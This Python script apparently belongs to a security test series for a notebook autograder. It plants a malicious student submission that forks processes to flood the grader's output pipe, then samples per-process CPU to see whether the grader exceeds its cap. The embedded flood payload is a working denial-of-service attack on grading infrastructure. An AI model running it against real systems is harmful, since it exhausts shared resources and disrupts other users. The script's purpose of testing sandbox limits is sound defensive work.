"""a01 (ordinary user): re-attack of rounds 21/22's CPU caps from another side. The kernel's own stdout/stderr (the
fd-level one ipykernel keeps a copy of, or plain fd 1 in forked children) is a pipe drained by the grader's labelled
forwarder (`_Forward`, a process of the grader's, outside the sandbox), which keeps the first 64 kB and then goes on
reading and throwing away everything else. N children forked by one answer cell write 64 KiB + newline to that pipe
for DUR seconds, while the notebook goes on (four more answer cells sleep 110 s each, under the 120 s cell timeout,
to keep the notebook running). A sampler reads utime+stime of every process of the run: "grader side"
= host-level processes (one PID namespace level), "sandbox side" = processes inside a sandbox's PID namespace.
Does any grader process spend more than the 60 CPU-s a grader process may use for one submission?"""
import os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u23

DUR = int(os.environ.get("DUR", "560"))
N = int(os.environ.get("N", "2"))
CHUNK = int(os.environ.get("CHUNK", "65537"))  # bytes a write, newline included
CELLS = int(os.environ.get("CELLS", "4"))  # answer cells that sleep 110 s after the first
PAYLOAD = f'''
import os, sys, time
_c = getattr(sys.stdout, "_original_stdstream_copy", None)
_fd = _c if _c is not None else 1
print("writing to fd", _fd, os.readlink(f"/proc/self/fd/{{_fd}}"))
def _flood():
    buf = b"x" * ({CHUNK} - 1) + b"\\n"
    end = time.time() + {DUR}
    while time.time() < end:
        try:
            os.write(_fd, buf)
        except OSError:
            time.sleep(0.01)
for _i in range({N}):
    if os.fork() == 0:
        try:
            _flood()
        finally:
            os._exit(0)
time.sleep(110)
'''
SLEEP = "\nimport time\ntime.sleep(110)\n"

samples = {}
stop = False


def sampler():
    tick = os.sysconf("SC_CLK_TCK")
    while not stop:
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                st = open(f"/proc/{p}/status").read()
                if "\nUid:\t65534" not in st:
                    continue
                if u23.CLONE.encode() not in open(f"/proc/{p}/cmdline", "rb").read():
                    continue  # other work of uid 65534 on this shared machine
                nspid = [l for l in st.splitlines() if l.startswith("NSpid:")][0].split()[1:]
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / tick
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ")[:120].decode(errors="replace")
                samples[p] = (cpu, len(nspid) > 1, cmd)
            except (OSError, IndexError):
                pass
        time.sleep(0.5)


def main():
    global stop
    mallory = u23.notebook("ps1_memory", append={"training_memory": PAYLOAD, **{g: SLEEP for g in ("per_device_memory", "partition_layers", "split_model", "two_stage_step")[:CELLS]}})
    dest = u23.course(os.environ.get("TAG", "a01"), {("honest", "ps1_memory"): u23.honest("ps1_memory"), ("mallory", "ps1_memory"): mallory})
    before = set(os.listdir("/proc"))
    t = threading.Thread(target=sampler, daemon=True)
    t.start()
    t0 = time.time()
    u23.grade(dest, env=u23.CANARY_ENV)
    stop = True
    t.join()
    print(f"wall {time.time() - t0:.0f}s")
    grader = sorted(((v[0], k, v[2]) for k, v in samples.items() if not v[1] and k not in before), reverse=True)
    sandbox = sorted(((v[0], k, v[2]) for k, v in samples.items() if v[1]), reverse=True)
    print(f"grader side (host-level processes of the run): {sum(c for c, _, _ in grader):.1f} CPU-s")
    for c, k, cmd in grader[:8]:
        print(f"  {c:7.1f} CPU-s pid {k}: {cmd.replace(u23.CLONE, '<clone>').replace(sys.base_prefix, '<base python>')}")
    print(f"sandbox side: {sum(c for c, _, _ in sandbox):.1f} CPU-s")
    for c, k, cmd in sandbox[:5]:
        print(f"  {c:7.1f} CPU-s pid {k}: {cmd.replace(u23.CLONE, '<clone>').replace(sys.base_prefix, '<base python>')}")
    u23.report(dest)
    u23.scores(dest)
    u23.cell_outputs(dest, "mallory", "ps1_memory", {"training_memory"})
    time.sleep(2)
    u23.cleanup(dest)


if __name__ == "__main__":
    main()
